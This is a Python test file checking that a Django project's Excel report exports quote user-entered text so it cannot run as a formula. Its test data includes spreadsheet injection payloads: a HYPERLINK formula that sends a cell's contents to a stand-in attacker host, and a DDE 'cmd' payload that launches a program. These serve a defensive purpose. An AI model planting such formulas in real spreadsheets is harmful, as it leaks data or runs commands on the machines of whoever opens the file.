"""Issue 13 (item 3): text a person typed comes out of the reports' Excel workbooks quoted.

Every Excel download goes through :func:`czesg.reports.workbooks.workbook`; here a zone
administrator's statistic sources are written through the parks actions and the zone workbook
is downloaded and read back with openpyxl.
"""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from czesg.parks import actions
from czesg.reports.workbooks import Sheet, workbook
from tests.apps.dashboards.city_fixtures import YEAR

pytestmark = pytest.mark.django_db

SOURCE = '=HYPERLINK("http://evil.example/?d="&A1,"台账")'


def test_zone_workbook_quotes_a_formula_like_source_and_keeps_the_number(park_admin, client_as):
    actions.enter_zone_statistics("czhnd", YEAR, {"clean_energy_share": (45, SOURCE)},
                                  actor=park_admin)
    response = client_as(park_admin).get("/dashboards/zones/czhnd/export.xlsx", {"year": YEAR})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    stats = book["统计数据 Statistics"]
    row = next(r for r in stats.iter_rows(min_row=3) if r[0].value == "clean_energy_share")
    assert (row[3].value, row[3].data_type) == (45, "n")
    assert (row[5].value, row[5].data_type) == ("'" + SOURCE, "s")
    assert not [c.coordinate for ws in book for r in ws.iter_rows() for c in r
                if c.data_type == "f"]


@pytest.mark.parametrize(("given", "written", "kind"), [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", "s"),
    ("+SUM(1,1)", "'+SUM(1,1)", "s"),
    ("@SUM(1)", "'@SUM(1)", "s"),
    ("-1+2", "'-1+2", "s"),
    ("\t=1", "'\t=1", "s"),
    (-12.5, -12.5, "n"),
    (3, 3, "n"),
])
def test_every_sheet_cell_is_written_formula_safe(given, written, kind):
    data = workbook([Sheet("表 Table", [("值", "Value")], [[given]])], [("备注", "Note", given)])
    book = load_workbook(io.BytesIO(data))
    for cell in (book["表 Table"]["A3"], book["说明 About"]["C2"]):
        assert (cell.value, cell.data_type) == (written, kind)
